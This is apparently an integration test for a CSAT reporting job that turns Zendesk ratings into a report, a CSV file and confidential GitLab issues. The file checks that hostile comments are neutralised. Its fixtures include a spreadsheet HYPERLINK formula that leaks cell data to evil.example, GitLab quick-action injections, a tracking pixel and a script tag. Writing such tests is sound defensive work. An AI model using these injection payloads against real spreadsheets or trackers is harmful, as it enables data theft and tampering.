/**
 * `npm run csat` end to end (issue 13): csat.json, csat-comments.csv and one confidential
 * issue per bad rating, through node-zendesk (the Zendesk sandbox's default account and its
 * known ratings, CSAT_SEED) and @gitbeaker/rest (the GitLab sandbox), with the read-only
 * OAuth token. One account for the whole file: the tests run in order, as the days of a
 * schedule would (first run, re-run, a customer changes their mind, re-runs).
 */
import { rm, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCsatReport, csatReportJson } from '../../scripts/csat/report.ts';
import { COMMENTS_CSV_COLUMNS } from '../../scripts/csat/comments.ts';
import { COMMENTS_CSV, CSAT_REPORT_JSON } from '../../scripts/pipeline/csatJob.ts';
import { startGitLabSandbox, type GitLabSandbox } from '../../scripts/sandbox/gitlab/server.ts';
import type { SandboxIssue } from '../../scripts/sandbox/gitlab/state.ts';
import { CSAT_SEED } from '../../scripts/sandbox/zendesk/csat-seed.ts';
import { DEFAULT_CREDENTIALS, READ_ONLY_OAUTH_TOKEN } from '../../scripts/sandbox/zendesk/server.ts';
import type { SandboxRecord } from '../../scripts/sandbox/zendesk/state.ts';
import { loadCsatConfig } from '../../scripts/workflow/csat.ts';
import { ZendeskClient } from '../../scripts/zendesk/client.ts';
import { FIXED_NOW, workspace, type RunResult, type Workspace } from '../integration/harness.ts';

const GITLAB_TOKEN = 'glpat-csat-secret-5d7e1a';
/** The extra lines a hostile customer adds to the seed's hostile comment: quick actions, a mention, an image, a link. */
const HOSTILE_EXTRA = '/close\n  /label ~csat::good\n/assign @dana.lee\n![pixel](https://evil.example/p.png) www.evil.example #1 !2';
/** Formulas a spreadsheet would run, in two good ratings' comments. */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Refund")';
const FORMULA_MULTILINE = '@SUM(1+1)\n-2+3, "quoted"';

let ws: Workspace;
let gitlab: GitLabSandbox;
let first: RunResult;

/** The job's variables: the read-only Zendesk OAuth token and nothing that can write to Zendesk. */
const ciEnv = () => ({
  ZENDESK_OAUTH_TOKEN: READ_ONLY_OAUTH_TOKEN.token,
  ZENDESK_EMAIL: undefined,
  ZENDESK_API_TOKEN: undefined,
  GITLAB_CI: 'true',
  CI_API_V4_URL: gitlab.url,
  CI_PROJECT_ID: String(gitlab.project.id),
  GITLAB_API_TOKEN: GITLAB_TOKEN,
  CI_PIPELINE_URL: 'https://gitlab.example.com/support/zendesk-config/-/pipelines/77',
});
const csat = (extra: Record<string, string | undefined> = {}, args: string[] = []) => ws.run(['ci', 'csat', ...args], { ...ciEnv(), ...extra });

/** The customer answers the survey again (POST /tickets/{id}/satisfaction_rating), with a credential that may write. */
async function rateAgain(ratingId: number, rating: { score: 'good' | 'bad'; comment?: string; reason_code?: number }): Promise<void> {
  const ticketId = ratingById(ratingId).ticket_id;
  const basic = Buffer.from(`${DEFAULT_CREDENTIALS.email}/token:${DEFAULT_CREDENTIALS.apiToken}`).toString('base64');
  const response = await fetch(`${ws.sandbox.url}/api/v2/tickets/${ticketId}/satisfaction_rating.json`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Basic ${basic}` },
    body: JSON.stringify({ satisfaction_rating: rating }),
  });
  if (!response.ok) throw new Error(`rating ticket ${ticketId} failed: ${response.status}`);
}

const ratings = () => ws.sandbox.state().collections.satisfaction_ratings ?? [];
const ratingById = (id: number): SandboxRecord => {
  const found = ratings().find((rating) => rating.id === id);
  if (!found) throw new Error(`no rating ${id}`);
  return found;
};
const ratingAt = (created: string) => ratings().find((rating) => rating.created_at === created)?.id as number;
/** The report's months: June to November 2026 in Berlin. */
const MONTHS = { start: Date.parse('2026-05-31T22:00:00Z'), end: Date.parse('2026-11-30T23:00:00Z') };
const inMonths = (rating: SandboxRecord) => Date.parse(String(rating.created_at)) >= MONTHS.start && Date.parse(String(rating.created_at)) < MONTHS.end;

const issues = () => gitlab.state().issues;
const issueFor = (ratingId: number): SandboxIssue => {
  const found = issues().filter((issue) => issue.title !== 'copy' && issue.description.includes(`<!-- zendesk-gitops:csat-bad-rating ${ratingId} -->`));
  expect(found).toHaveLength(1);
  return found[0];
};
const notesOn = (iid: number) => gitlab.state().notes.filter((note) => note.noteable_type === 'Issue' && note.noteable_iid === iid && !note.system);
const writes = () => Object.entries(gitlab.requestCounts()).filter(([key]) => !key.startsWith('GET ')).reduce((sum, [, n]) => sum + n, 0);

beforeAll(async () => {
  ws = await workspace();
  gitlab = await startGitLabSandbox({ token: GITLAB_TOKEN });
  await rateAgain(CSAT_SEED.ratingIds.hostile, { score: 'bad', reason_code: 6, comment: `${CSAT_SEED.hostileComment}\n${HOSTILE_EXTRA}` });
  await rateAgain(ratingAt('2026-11-18T09:00:00Z'), { score: 'good', comment: FORMULA });
  await rateAgain(ratingAt('2026-06-03T09:00:00Z'), { score: 'good', comment: FORMULA_MULTILINE });
  first = await csat();
});
afterAll(async () => {
  await gitlab?.close();
  await ws?.close();
});

describe('npm run csat, the first run', () => {
  it('opens one confidential issue per bad rating of the six months, with the csat labels, as the token\'s bot', () => {
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    const expectedBad = Object.values(CSAT_SEED.expected.monthly).reduce((sum, month) => sum + month.bad, 0);
    const badIds = ratings().filter((rating) => rating.score === 'bad' && inMonths(rating)).map((rating) => rating.id as number);
    expect(badIds).toHaveLength(expectedBad);
    expect(issues()).toHaveLength(expectedBad);
    const bot = gitlab.state().users.find((user) => user.username.startsWith('project_'));
    for (const id of badIds) {
      const issue = issueFor(id);
      expect(issue.confidential).toBe(true);
      expect(issue.labels.sort()).toEqual(['csat', 'csat::bad']);
      expect(issue.author_id).toBe(bot?.id);
      expect(issue.title).toBe(`Bad CSAT rating ${id}: Zendesk ticket ${ratingById(id).ticket_id}`);
    }
    expect(first.stdout).toContain(`${expectedBad} bad ratings in the report's months: ${expectedBad} new issues, 0 already had one.`);
  });

  it('links the ticket and names its group, assignee and reason as Zendesk has them, mentioning that group\'s managers', () => {
    const support = ratingAt('2026-06-17T09:00:00Z');
    const body = issueFor(support).description;
    expect(body).toContain(`| Ticket | [${ratingById(support).ticket_id}](${ws.sandbox.url}/agent/tickets/${ratingById(support).ticket_id}) |`);
    expect(body).toContain('| Group | Support |');
    const assignee = ws.sandbox.state().collections.users?.find((user) => user.id === ratingById(support).assignee_id);
    expect(body).toContain(`| Assignee | ${String(assignee?.name)} |`);
    expect(body).toContain('| Reason | The issue was not resolved |');
    expect(body).toContain('> Still broken after three replies.');
    expect(body).toContain('@dana.lee: please look into it');
    expect(body).not.toContain('@sam.ortiz');

    const billing = issueFor(ratingAt('2026-10-31T22:30:00Z')).description;
    expect(billing).toContain('| Group | Billing |');
    expect(billing).toContain('@sam.ortiz: please look into it');
    expect(billing).not.toContain('@dana.lee');

    const tier2 = issueFor(ratingAt('2026-07-31T21:30:00Z')).description;
    expect(tier2).toContain('No managers are set for Tier 2');
    expect(tier2).toContain('The customer left no comment.');
    expect(tier2).not.toMatch(/@[\p{L}\p{N}_]/u);
  });

  it('shows a hostile comment as text: no HTML, link, image, quick action, reference or mention but the managers\'', () => {
    const body = issueFor(CSAT_SEED.ratingIds.hostile).description;
    expect(body).not.toMatch(/<(script|img)/i);
    expect(body).not.toContain('](javascript:');
    expect(body).not.toContain('![pixel](');
    expect(body).not.toMatch(/^\s*\//m);
    expect(body).not.toMatch(/(^|[^\w])(www\.|https?:\/\/)evil/);
    expect(body).not.toMatch(/(?<!&)#[0-9]|![0-9]/);
    // The only mention left is the one config/csat.yaml asks for (Support's manager), once.
    expect([...body.matchAll(/@[\p{L}\p{N}_.-]+/gu)].map((m) => m[0])).toEqual(['@dana.lee']);
    // Still readable: the words are all there, one quoted line each.
    expect(body).toContain('> &lt;script&gt;alert(&quot;csat&quot;)&lt;/script&gt;');
    expect(body).toContain('> &#47;close');
  });

  it('writes csat.json, the same report buildCsatReport makes', async () => {
    const { config } = await loadCsatConfig(join(ws.dir, 'config'));
    const client = new ZendeskClient({ baseUrl: ws.sandbox.url, auth: { kind: 'oauth', accessToken: READ_ONLY_OAUTH_TOKEN.token }, sleep: async () => undefined });
    const report = await buildCsatReport({ client, config: config!, now: FIXED_NOW });
    expect(await ws.read(CSAT_REPORT_JSON)).toBe(csatReportJson(report));
    expect(first.stdout).toContain('Wrote csat.json: CSAT 2026-11 100.0% (3 good, 0 bad), target 95.0%');
  });

  it('writes every rating with a comment, good and bad, to csat-comments.csv, formulas neutralised', async () => {
    const rows = parseCsv(await ws.read(COMMENTS_CSV));
    expect(rows[0]).toEqual([...COMMENTS_CSV_COLUMNS]);
    const commented = ratings()
      .filter((rating) => (rating.score === 'good' || rating.score === 'bad') && typeof rating.comment === 'string' && rating.comment.trim() !== '' && inMonths(rating))
      .map((rating) => String(rating.id));
    expect(rows.slice(1).map((row) => row[0]).sort()).toEqual(commented.sort());
    const row = (ratingId: number) => rows.find((r) => r[0] === String(ratingId)) ?? [];
    expect(row(ratingAt('2026-11-18T09:00:00Z'))).toEqual([String(ratingAt('2026-11-18T09:00:00Z')), String(ratingById(ratingAt('2026-11-18T09:00:00Z')).ticket_id), 'good', '', '2026-11-18T09:00:00Z', 'Billing', `'${FORMULA}`]);
    expect(row(ratingAt('2026-06-03T09:00:00Z'))[6]).toBe(`'${FORMULA_MULTILINE}`);
    expect(row(ratingAt('2026-10-31T22:30:00Z')).slice(2)).toEqual(['bad', 'The product does not do what I need', '2026-10-31T22:30:00Z', 'Billing', 'Invoices cannot be split by cost centre.']);
    // No cell a spreadsheet would read as a formula.
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(first.stdout).toContain(`Wrote csat-comments.csv: ${commented.length} ratings with a comment, good and bad.`);
  });
});

describe('re-runs and changed ratings', () => {
  it('writes nothing to GitLab on a re-run', async () => {
    gitlab.resetRequestCounts();
    const before = issues().length;
    const again = await csat();
    expect(again.code).toBe(0);
    expect(writes()).toBe(0);
    expect(issues()).toHaveLength(before);
    expect(again.stdout).toContain(`${before} bad ratings in the report's months: 0 new issues, ${before} already had one.`);
  });

  it('finds an issue whose label was taken off by hand, rather than opening a second one', async () => {
    const issue = issueFor(ratingAt('2026-08-12T09:00:00Z'));
    gitlab.unlabelIssue(issue.iid, 'csat');
    gitlab.resetRequestCounts();
    expect((await csat()).code).toBe(0);
    expect(writes()).toBe(0);
    issueFor(ratingAt('2026-08-12T09:00:00Z'));
  });

  it('closes the issue of a rating changed to good, with one note, once', async () => {
    const ratingId = CSAT_SEED.ratingIds.changedToBad;
    await rateAgain(ratingId, { score: 'good', comment: 'They called me back @all' });
    const run = await csat();
    expect(run.code).toBe(0);
    const issue = issueFor(ratingId);
    expect(issue.state).toBe('closed');
    const notes = notesOn(issue.iid);
    expect(notes).toHaveLength(1);
    expect(notes[0].body).toContain(`to **Good**`);
    expect(notes[0].body).toContain('> They called me back @\u2060all');
    expect(run.stdout).toContain(`closed #${issue.iid}: rating ${ratingId} was changed to good`);

    gitlab.resetRequestCounts();
    expect((await csat()).code).toBe(0);
    expect(writes()).toBe(0);
    expect(notesOn(issue.iid)).toHaveLength(1);
  });

  it('leaves an issue a manager reopened after it was closed for a good rating, and a copied marker alone', async () => {
    const ratingId = CSAT_SEED.ratingIds.changedToBad;
    const { iid } = issueFor(ratingId);
    const reopened = await fetch(`${gitlab.url}/projects/${gitlab.project.id}/issues/${iid}?state_event=reopen`, {
      method: 'PUT',
      headers: { 'PRIVATE-TOKEN': gitlab.tokenFor('dana.lee') },
    });
    expect(reopened.status).toBe(200);
    // Someone else's issue carrying the marker of a bad rating does not stand in for the bot's.
    gitlab.addIssue({ title: 'copy', description: `<!-- zendesk-gitops:csat-bad-rating ${ratingAt('2026-10-31T22:30:00Z')} -->`, labels: ['csat'], author: 'dana.lee' });
    gitlab.resetRequestCounts();
    expect((await csat()).code).toBe(0);
    expect(writes()).toBe(0);
    expect(gitlab.state().issues.find((issue) => issue.iid === iid)?.state).toBe('opened');
    expect(notesOn(iid)).toHaveLength(1);
  });

  it('reopens the issue it closed for a good rating when the customer changes it back to bad, with one note; each change said once', async () => {
    const ratingId = ratingAt('2026-06-17T09:00:00Z');
    const { iid } = issueFor(ratingId);
    await rateAgain(ratingId, { score: 'good' });
    expect((await csat()).stdout).toContain(`closed #${iid}: rating ${ratingId} was changed to good`);

    await rateAgain(ratingId, { score: 'bad', reason_code: 5, comment: 'Broken again.\n/close\n@all' });
    const run = await csat();
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`reopened #${iid}: rating ${ratingId} was changed back to bad`);
    expect(issueFor(ratingId).state).toBe('opened');
    const notes = notesOn(iid).map((note) => note.body);
    expect(notes).toEqual([expect.stringContaining('to **Good**'), expect.stringContaining('back to **Bad**')]);
    expect(notes[1]).toContain('so this issue is open again. Reason: The issue took too long to resolve.');
    expect(notes[1]).toContain('> Broken again.\n> &#47;close\n> @\u2060all');

    gitlab.resetRequestCounts();
    expect((await csat()).code).toBe(0);
    expect(writes()).toBe(0);
    expect(notesOn(iid)).toHaveLength(2);

    // The customer keeps changing their mind: every change is news, said once.
    await rateAgain(ratingId, { score: 'good' });
    expect((await csat()).stdout).toContain(`closed #${iid}: rating ${ratingId} was changed to good`);
    await rateAgain(ratingId, { score: 'bad' });
    expect((await csat()).stdout).toContain(`reopened #${iid}: rating ${ratingId} was changed back to bad`);
    expect((await csat()).stdout).not.toContain(`#${iid}:`);
    expect(issueFor(ratingId).state).toBe('opened');
    expect(notesOn(iid).map((note) => /to \*\*(Good|Bad)\*\*/.exec(note.body)?.[1])).toEqual(['Good', 'Bad', 'Good', 'Bad']);
  });

  it('leaves closed an issue a person closed by hand, whatever the rating does next', async () => {
    const closeByHand = async (iid: number) => {
      const closed = await fetch(`${gitlab.url}/projects/${gitlab.project.id}/issues/${iid}?state_event=close`, { method: 'PUT', headers: { 'PRIVATE-TOKEN': gitlab.tokenFor('dana.lee') } });
      expect(closed.status).toBe(200);
    };
    // Closed by the bot for a good rating, reopened by a manager (the test above this one), closed by her again.
    const reopenedByHand = CSAT_SEED.ratingIds.changedToBad;
    await closeByHand(issueFor(reopenedByHand).iid);
    await rateAgain(reopenedByHand, { score: 'bad' });
    // Closed by a manager while the rating was bad: investigated and done.
    const stillBad = ratingAt('2026-10-31T22:30:00Z');
    await closeByHand(issueFor(stillBad).iid);

    gitlab.resetRequestCounts();
    const run = await csat();
    expect(run.code).toBe(0);
    expect(run.stdout).not.toContain('reopened');
    expect(writes()).toBe(0);
    expect([issueFor(reopenedByHand).state, issueFor(stillBad).state]).toEqual(['closed', 'closed']);
    expect(notesOn(issueFor(reopenedByHand).iid)).toHaveLength(1);
    expect(notesOn(issueFor(stillBad).iid)).toEqual([]);
  });

  it('reopens on the next run when GitLab failed between the note and the reopen, without saying it twice', async () => {
    const ratingId = ratingAt('2026-07-31T21:30:00Z');
    const { iid } = issueFor(ratingId);
    await rateAgain(ratingId, { score: 'good' });
    expect((await csat()).code).toBe(0);
    await rateAgain(ratingId, { score: 'bad' });
    gitlab.injectFault({ method: 'PUT', path: /\/issues\/\d+$/, status: 503, times: 10 });
    expect((await csat()).code).toBe(1);
    gitlab.clearFaults();
    expect(issueFor(ratingId).state).toBe('closed');
    expect(notesOn(iid)).toHaveLength(2);

    const retried = await csat();
    expect(retried.stdout).toContain(`reopened #${iid}: rating ${ratingId} was changed back to bad`);
    expect(issueFor(ratingId).state).toBe('opened');
    expect(notesOn(iid).map((note) => /to \*\*(Good|Bad)\*\*/.exec(note.body)?.[1])).toEqual(['Good', 'Bad']);
  });
});

describe('the report beside the pages job, and failures', () => {
  it('--report-only writes csat.json alone, without GitLab', async () => {
    await rm(join(ws.dir, CSAT_REPORT_JSON));
    await rm(join(ws.dir, COMMENTS_CSV));
    gitlab.resetRequestCounts();
    const run = await csat({ GITLAB_API_TOKEN: undefined, CI_PROJECT_ID: undefined }, ['--report-only']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe('');
    expect(await ws.read(CSAT_REPORT_JSON)).toContain('"formatVersion": 1');
    await expect(stat(join(ws.dir, COMMENTS_CSV))).rejects.toThrow();
    expect(gitlab.requestCounts()).toEqual({});
  });

  it('says in one line that GitLab refused the token, without the token', async () => {
    const run = await csat({ GITLAB_API_TOKEN: 'glpat-revoked-0000' });
    expect(run.code).toBe(1);
    expect(run.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^error: GitLab at http:\/\/127\.0\.0\.1:\d+\/api\/v4 rejected GITLAB_API_TOKEN \(401\) on GET \/?user/)]);
    expect(run.stderr + run.stdout).not.toContain('glpat-revoked-0000');
  });

  it('refuses --report-only on other jobs, and needs config/csat.yaml', async () => {
    expect((await ws.run(['ci', 'drift', '--report-only'], ciEnv())).stderr).toContain('--report-only is for csat only');
    await rm(join(ws.dir, 'config', 'csat.yaml'));
    const run = await csat();
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('error: config/csat.yaml is missing: npm run csat needs it');
  });
});

/** RFC 4180, as a spreadsheet reads it: quoted cells with "" for ", CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

